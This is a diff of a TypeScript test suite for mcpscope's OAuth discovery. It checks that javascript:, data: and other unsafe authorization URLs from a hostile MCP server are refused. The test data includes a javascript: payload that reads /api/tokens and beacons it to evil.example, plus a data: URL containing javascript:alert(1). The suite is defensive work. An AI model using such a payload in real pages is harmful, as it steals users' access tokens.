@@ -1,16 +1,14 @@
 // A hostile MCP server answers 401 and points at an authorization server whose metadata names a `javascript:`
 // (or data:, file:, relative...) endpoint. Navigated to with location.assign, such an authorization URL would run
 // on mcpscope's origin. Discovery refuses each with `unsafe_url`, a finding, and nothing sent to it.
-import http from 'node:http';
-import type { AddressInfo } from 'node:net';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { beforeEach, describe, expect, it } from 'vitest';
 import { OAuthClientFlow, OAuthFlowError } from '@/lib/oauth';
 import { EMPTY_ALLOW_LIST, httpUrlRule, parseAllowList, type TargetPolicy } from '@/lib/security';
 import type { HttpRule } from '@/lib/url-policy';
-import { findings, newFlow, phaseSteps, tempStore, type TestStore } from './helpers';
+import { localServerForSuite, sendJson } from '../fixtures/http-servers';
+import { findings, newFlow, phaseSteps } from './helpers';
+import { tempStorePerTest } from './per-test';
 
-let server: http.Server;
-let origin = '';
 let seen: string[] = [];
 /** What the protected resource metadata and the authorization server metadata say, per test. */
 let resourceMetadata: (origin: string) => Record<string, unknown>;
@@ -18,11 +16,6 @@ let serverMetadata: (origin: string) => Record<string, unknown>;
 let challenge: (origin: string) => string;
 
 const PAYLOAD = 'javascript:fetch("/api/tokens").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))//';
-
-const json = (res: http.ServerResponse, status: number, body: unknown) => {
-  res.writeHead(status, { 'content-type': 'application/json' });
-  res.end(JSON.stringify(body));
-};
 
 function goodServerMetadata(o: string): Record<string, unknown> {
   return {
@@ -36,49 +29,30 @@ function goodServerMetadata(o: string): Record<string, unknown> {
   };
 }
 
-beforeAll(async () => {
-  server = http.createServer((req, res) => {
-    const chunks: Buffer[] = [];
-    req.on('data', (c: Buffer) => chunks.push(c));
-    req.on('end', () => answer(req, res, Buffer.concat(chunks).toString('utf8')));
-  });
-  const answer = (req: http.IncomingMessage, res: http.ServerResponse, body: string) => {
-    const url = new URL(req.url ?? '/', origin);
-    seen.push(`${req.method} ${url.pathname}`);
-    if (url.pathname === '/.well-known/oauth-protected-resource/mcp') return json(res, 200, resourceMetadata(origin));
-    if (url.pathname === '/.well-known/oauth-authorization-server/as') return json(res, 200, serverMetadata(origin));
-    if (url.pathname === '/as/register' && req.method === 'POST') {
-      return json(res, 201, { ...(JSON.parse(body) as object), client_id: 'hostile-client', token_endpoint_auth_method: 'none' });
-    }
-    if (url.pathname === '/mcp') {
-      res.writeHead(401, { 'www-authenticate': challenge(origin) }).end();
-      return;
-    }
-    json(res, 404, { error: 'not_found' });
-  };
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+const origin = localServerForSuite(({ method, url, body }, res) => {
+  seen.push(`${method} ${url.pathname}`);
+  if (url.pathname === '/.well-known/oauth-protected-resource/mcp') return sendJson(res, 200, resourceMetadata(url.origin));
+  if (url.pathname === '/.well-known/oauth-authorization-server/as') return sendJson(res, 200, serverMetadata(url.origin));
+  if (url.pathname === '/as/register' && method === 'POST') {
+    return sendJson(res, 201, { ...(JSON.parse(body) as object), client_id: 'hostile-client', token_endpoint_auth_method: 'none' });
+  }
+  if (url.pathname === '/mcp') {
+    res.writeHead(401, { 'www-authenticate': challenge(url.origin) }).end();
+    return;
+  }
+  sendJson(res, 404, { error: 'not_found' });
 });
 
-afterAll(async () => {
-  server.closeAllConnections();
-  await new Promise((resolve) => server.close(resolve));
-});
-
-let ts: TestStore;
-beforeEach(async () => {
+const store = tempStorePerTest();
+beforeEach(() => {
   seen = [];
   resourceMetadata = (o) => ({ resource: `${o}/mcp`, authorization_servers: [`${o}/as`] });
   serverMetadata = goodServerMetadata;
   challenge = (o) => `Bearer resource_metadata="${o}/.well-known/oauth-protected-resource/mcp"`;
-  ts = await tempStore();
-});
-afterEach(async () => {
-  await ts.close();
 });
 
 function makeFlow(httpUrls?: HttpRule) {
-  return newFlow(ts.store, `${origin}/mcp`, { owner: 'o', ...(httpUrls ? { httpUrls } : {}) });
+  return newFlow(store().store, `${origin()}/mcp`, { owner: 'o', ...(httpUrls ? { httpUrls } : {}) });
 }
 
 async function refusal(flow: OAuthClientFlow): Promise<OAuthFlowError> {
@@ -156,9 +130,9 @@ describe('the protected resource metadata and the challenge', () => {
   it('skips a data: resource_metadata URL in the challenge with a finding, and reads the well-known one', async () => {
     challenge = () => 'Bearer resource_metadata="data:application/json,{\\"authorization_servers\\":[\\"javascript:alert(1)\\"]}"';
     const { flow, log } = makeFlow();
-    const discovery = await flow.discover({ wwwAuthenticate: challenge(origin) });
-    expect(discovery.resourceMetadataUrl).toBe(`${origin}/.well-known/oauth-protected-resource/mcp`);
-    expect(discovery.authorizationServerUrl).toBe(`${origin}/as`);
+    const discovery = await flow.discover({ wwwAuthenticate: challenge(origin()) });
+    expect(discovery.resourceMetadataUrl).toBe(`${origin()}/.well-known/oauth-protected-resource/mcp`);
+    expect(discovery.authorizationServerUrl).toBe(`${origin()}/as`);
     const finding = findings(log).find((f) => f.code === 'unsafe_url');
     expect(finding?.message).toContain('resource_metadata');
     expect(finding?.message).toContain('data:');
@@ -175,7 +149,7 @@ describe('plain http by mode (lib/security httpUrlRule)', () => {
   it('local mode: an http authorization server works (the person’s own development servers)', async () => {
     const { flow } = makeFlow(httpUrlRule({ mode: 'local', allow: EMPTY_ALLOW_LIST, selfOrigins: [] }));
     const request = await flow.startAuthorization();
-    expect(request.authorizationUrl.startsWith(`${origin}/as/authorize?`)).toBe(true);
+    expect(request.authorizationUrl.startsWith(`${origin()}/as/authorize?`)).toBe(true);
   });
 
   it('hosted mode: an http authorization server on a host nobody allowed is refused', async () => {
